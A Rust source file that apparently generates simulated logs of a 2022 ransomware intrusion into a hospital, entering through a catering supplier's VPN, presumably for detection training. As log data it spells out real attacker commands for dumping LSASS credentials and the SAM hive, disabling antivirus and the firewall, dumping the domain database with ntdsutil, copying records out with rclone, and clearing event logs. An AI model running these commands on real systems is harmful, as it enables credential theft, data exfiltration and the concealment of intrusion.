//! The Osaka case of 2022: in through the caterer's VPN, out over the whole hospital.

use sakimori_words::Instant;

use super::scene::{Intruder, Scene};
use crate::Line;
use crate::devices::{Hospital, Log};

/// Where the attacker comes from.
const OUTSIDE: &str = "203.0.113.77";
/// The address the VPN gives.
const TUNNEL: &str = "10.212.134.200";
/// The caterer's server inside the hospital.
const CATERING: &str = "10.30.1.5";
/// Who comes in, with the caterer's maintenance account, and then as the administrator.
const INTRUDER: Intruder<'_> = Intruder {
    vpn_account: "kyushoku-maint",
    vpn_group: "vendor-vpn",
    outside: OUTSIDE,
    tunnel: TUNNEL,
    account: "administrator",
    workstation: "KYUSHOKU01",
    from: CATERING,
};
/// Servers reached with the same password, with their addresses.
const SERVERS: [(&str, &str); 8] = [
    ("ehr01", "10.20.1.40"),
    ("ehr02", "10.20.1.41"),
    ("fs01", "10.20.1.20"),
    ("pacs01", "10.20.1.50"),
    ("lab01", "10.20.1.60"),
    ("rx01", "10.20.1.61"),
    ("backup01", "10.20.1.70"),
    ("dc01", "10.20.1.10"),
];

const MINUTE: i64 = 60;

/// All records of the attack. Not sorted.
pub(super) fn attack(start: Instant, hospital: &Hospital) -> Vec<Line> {
    let minute = |minutes: i64| start.plus_seconds(minutes * MINUTE);
    let mut scene = Scene::new(hospital, INTRUDER);
    scene.enters_through_the_supplier(minute(0));
    scene.looks_around(minute(8));
    scene.takes_passwords(minute(15));
    scene.removes_the_antivirus("kyushoku01", minute(20));
    scene.crosses_the_border(minute(30));
    scene.uses_the_same_password_everywhere(minute(35));
    scene.takes_the_domain(minute(50));
    scene.opens_the_firewall(minute(60));
    scene.carries_data_out(minute(70));
    for (n, machine) in (0..).zip(["fs01", "ehr01", "backup01", "dc01"]) {
        scene.destroys_the_way_back(minute(90 + n), machine);
    }
    scene.program(minute(100), "fs01", "run.exe", "C:\\Windows\\Temp\\run.exe -p \\\\fs01\\karte$");
    scene.encrypts(minute(100), "fs01", "karte", "HOW_TO_RESTORE_FILES.txt");
    scene.covers_tracks(minute(115));
    scene.lines
}

impl Scene<'_> {
    fn enters_through_the_supplier(&mut self, at: Instant) {
        for n in 0..12 {
            self.vpn_refuses(at.plus_seconds(n * 5));
        }
        let at = at.plus_seconds(3 * MINUTE);
        self.vpn_opens(at);
        self.traffic(at.plus_seconds(60), TUNNEL, CATERING, 3389, 2_000_000);
        self.logon(at.plus_seconds(65), "kyushoku01", "10", TUNNEL);
    }

    fn looks_around(&mut self, at: Instant) {
        let commands = [
            ("whoami.exe", "whoami /all"),
            ("nltest.exe", "nltest /dclist:hospital"),
            ("nltest.exe", "nltest /domain_trusts"),
            ("net.exe", "net group \"Domain Admins\" /domain"),
            ("net.exe", "net view /all"),
            ("ipconfig.exe", "ipconfig /all"),
            ("netscan.exe", "netscan.exe /hide /range:10.20.1.1-10.20.1.254"),
        ];
        for (n, (program, command)) in (0..).zip(commands) {
            self.program(at.plus_seconds(n * 20), "kyushoku01", program, command);
        }
        self.scans(at.plus_seconds(150), TUNNEL, "10.20.1");
    }

    fn takes_passwords(&mut self, at: Instant) {
        let command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\l.dmp full";
        self.program(at, "kyushoku01", "rundll32.exe", command);
        self.windows(
            at.plus_seconds(1),
            "kyushoku01",
            Log::Sysmon,
            10,
            &[
                ("SourceImage", "C:\\Windows\\System32\\rundll32.exe"),
                ("TargetImage", "C:\\Windows\\System32\\lsass.exe"),
                ("GrantedAccess", "0x1fffff"),
                ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6eb1"),
                ("SourceUser", "HOSPITAL\\administrator"),
            ],
        );
        self.program(
            at.plus_seconds(60),
            "kyushoku01",
            "reg.exe",
            "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
        );
    }

    fn removes_the_antivirus(&mut self, machine: &str, at: Instant) {
        let off =
            "powershell.exe -nop -w hidden -c Set-MpPreference -DisableRealtimeMonitoring $true";
        self.program(at, machine, "powershell.exe", off);
        self.windows(
            at.plus_seconds(1),
            machine,
            Log::PowerShell,
            4104,
            &[
                ("ScriptBlockText", "Set-MpPreference -DisableRealtimeMonitoring $true"),
                ("Path", ""),
            ],
        );
        self.windows(
            at.plus_seconds(2),
            machine,
            Log::Defender,
            5001,
            &[("ProductName", "Microsoft Defender Antivirus"), ("ProductVersion", "4.18.2211.5")],
        );
        self.program(
            at.plus_seconds(20),
            machine,
            "msiexec.exe",
            "msiexec.exe /x {8456195C-3BA3-45A4-A6A7-30AE7A62EADB} /qn",
        );
        self.windows(
            at.plus_seconds(40),
            machine,
            Log::Installer,
            11_724,
            &[(
                "Data",
                "Product: Trend Micro Apex One Security Agent -- Removal completed successfully.",
            )],
        );
        self.windows(
            at.plus_seconds(45),
            machine,
            Log::Services,
            7040,
            &[
                ("param1", "Microsoft Defender Antivirus Service"),
                ("param2", "auto start"),
                ("param3", "disabled"),
                ("param4", "WinDefend"),
            ],
        );
    }

    fn crosses_the_border(&mut self, at: Instant) {
        for (n, (_, address)) in (0..).zip(SERVERS) {
            self.traffic(at.plus_seconds(n * 10), CATERING, address, 3389, 40_000);
            self.traffic(at.plus_seconds(n * 10 + 5), CATERING, address, 445, 90_000);
        }
    }

    fn uses_the_same_password_everywhere(&mut self, at: Instant) {
        for (n, (machine, _)) in (0..).zip(SERVERS) {
            let at = at.plus_seconds(n * 40);
            for miss in 0..4 {
                self.failed_logon(at.plus_seconds(miss), machine);
            }
            self.pushes_service(at.plus_seconds(10), machine);
        }
        for (n, (machine, _)) in (0..).zip(SERVERS) {
            self.logon(at.plus_seconds(6 * MINUTE + n * 60), machine, "10", CATERING);
        }
        self.removes_the_antivirus("fs01", at.plus_seconds(8 * MINUTE));
    }

    fn takes_the_domain(&mut self, at: Instant) {
        self.logon(at, "dc01", "10", CATERING);
        let dump = "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\n\" q q";
        self.program(at.plus_seconds(30), "dc01", "ntdsutil.exe", dump);
        self.windows(
            at.plus_seconds(90),
            "dc01",
            Log::Security,
            4720,
            &[
                ("TargetUserName", "support2"),
                ("TargetDomainName", "HOSPITAL"),
                ("SubjectUserName", "administrator"),
                ("SamAccountName", "support2"),
            ],
        );
        self.windows(
            at.plus_seconds(95),
            "dc01",
            Log::Security,
            4728,
            &[
                ("MemberName", "CN=support2,CN=Users,DC=hospital,DC=example"),
                ("TargetUserName", "Domain Admins"),
                ("TargetDomainName", "HOSPITAL"),
                ("TargetSid", "S-1-5-21-1111111111-2222222222-3333333333-512"),
                ("SubjectUserName", "administrator"),
            ],
        );
        self.windows(at.plus_seconds(120), "dc01", Log::Security, 5136, &[
            ("SubjectUserName", "administrator"),
            ("ObjectDN", "CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=hospital,DC=example"),
            ("ObjectClass", "groupPolicyContainer"),
            ("AttributeLDAPDisplayName", "gPCMachineExtensionNames"),
            ("AttributeValue", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
            ("OperationType", "%%14674"),
        ]);
        for (n, (machine, _)) in (0..).zip(SERVERS) {
            self.windows(
                at.plus_seconds(180 + n * 5),
                machine,
                Log::Security,
                4698,
                &[
                    ("SubjectUserName", "administrator"),
                    ("TaskName", "\\Update_run"),
                    ("TaskContent", "<Exec><Command>C:\\Windows\\Temp\\run.exe</Command></Exec>"),
                ],
            );
        }
    }

    fn opens_the_firewall(&mut self, at: Instant) {
        self.program(at, "fs01", "netsh.exe", "netsh advfirewall set allprofiles state off");
        self.windows(
            at.plus_seconds(10),
            "fs01",
            Log::Sysmon,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", "C:\\Windows\\System32\\reg.exe"),
                (
                    "TargetObject",
                    "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
                ),
                ("Details", "DWORD (0x00000000)"),
                ("User", "HOSPITAL\\administrator"),
            ],
        );
        self.lines.push(self.hospital.fortigate(
            at.plus_seconds(60),
            &[
                ("logid", "0100032001"),
                ("type", "event"),
                ("subtype", "system"),
                ("level", "information"),
                ("vd", "root"),
                ("logdesc", "Admin login successful"),
                ("user", "admin"),
                ("ui", &format!("https({OUTSIDE})")),
                ("method", "https"),
                ("srcip", OUTSIDE),
                ("action", "login"),
                ("status", "success"),
                (
                    "msg",
                    &format!("Administrator admin logged in successfully from https({OUTSIDE})"),
                ),
            ],
        ));
        for (n, path, object) in [(90, "system.admin", "support2"), (100, "firewall.policy", "77")]
        {
            self.lines.push(self.hospital.fortigate(
                at.plus_seconds(n),
                &[
                    ("logid", "0100044547"),
                    ("type", "event"),
                    ("subtype", "system"),
                    ("level", "information"),
                    ("vd", "root"),
                    ("logdesc", "Object attribute configured"),
                    ("user", "admin"),
                    ("ui", &format!("GUI({OUTSIDE})")),
                    ("action", "Add"),
                    ("cfgpath", path),
                    ("cfgobj", object),
                    ("msg", &format!("Add {path} {object}")),
                ],
            ));
        }
    }

    fn carries_data_out(&mut self, at: Instant) {
        let command = "rclone.exe copy \\\\fs01\\karte$ remote:k --transfers 16 --config C:\\Windows\\Temp\\r.conf";
        self.program(at, "fs01", "rclone.exe", command);
        for n in 0..6 {
            self.traffic(
                at.plus_seconds(n * 120),
                "10.20.1.20",
                "198.51.100.250",
                443,
                3_000_000_000,
            );
        }
    }

    fn covers_tracks(&mut self, at: Instant) {
        for (n, machine) in (0..).zip(["fs01", "ehr01", "dc01"]) {
            let at = at.plus_seconds(n * 30);
            self.program(at, machine, "wevtutil.exe", "wevtutil.exe cl Security");
            self.windows(
                at.plus_seconds(1),
                machine,
                Log::Security,
                1102,
                &[("SubjectUserName", "administrator"), ("SubjectDomainName", "HOSPITAL")],
            );
            self.windows(
                at.plus_seconds(2),
                machine,
                Log::System,
                104,
                &[("SubjectUserName", "administrator"), ("Channel_Cleared", "System")],
            );
        }
    }
}
